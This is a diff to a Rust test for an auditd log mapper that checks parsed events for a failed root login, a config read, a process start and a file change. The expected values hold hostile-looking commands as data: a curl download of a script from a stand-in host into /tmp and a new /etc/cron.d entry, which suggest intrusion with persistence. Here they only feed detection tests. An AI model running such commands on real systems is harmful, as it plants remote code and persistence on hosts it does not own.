@@ -117,19 +117,36 @@ fn wazuh() {
 #[test]
 fn auditd() {
     let made = mapped("auditd", "auditd.log");
+    assert_eq!(made.len(), 4, "the lines of an event are one record");
     has(
         &made[0],
         &json!({
             "/event/kind": "auditd.SYSCALL", "/event/occurred_at": "2013-03-28T14:36:03.243Z", "/event/fields/image": "/bin/cat",
             "/event/tags/0": "sshd_config", "/event/fields/serial": "24287", "/event/user": "1000",
+            "/event/fields/command_line": "cat /etc/ssh/sshd_config", "/event/fields/types": ["SYSCALL", "PROCTITLE"],
         }),
     );
-    has(&made[1], &json!({"/event/fields/command_line": "cat /etc/ssh/sshd_config"}));
     has(
-        &made[2],
+        &made[1],
         &json!({
             "/event/kind": "auth.login_failed", "/event/severity": "low", "/event/host_id": "web01", "/event/user": "root",
             "/event/network/src_ip": "203.0.113.9",
+        }),
+    );
+    has(
+        &made[2],
+        &json!({
+            "/event/kind": "process_start", "/event/occurred_at": "2026-05-08T12:00:01.123Z", "/event/user": "alice",
+            "/event/fields/command_line": "curl -o /tmp/a b.sh http://192.0.2.66/x", "/event/fields/cwd": "/root",
+            "/event/fields/argv/2": "/tmp/a b.sh", "/event/fields/image": "/usr/bin/curl", "/event/fields/a0": "55d0c2a1f2b0",
+            "/event/fields/path": "/usr/bin/curl", "/event/fields/paths/1/name": "/lib64/ld-linux-x86-64.so.2",
+        }),
+    );
+    has(
+        &made[3],
+        &json!({
+            "/event/kind": "file_change", "/event/fields/path": "/etc/cron.d/x", "/event/fields/nametype": "CREATE",
+            "/event/tags/0": "cron",
         }),
     );
 }
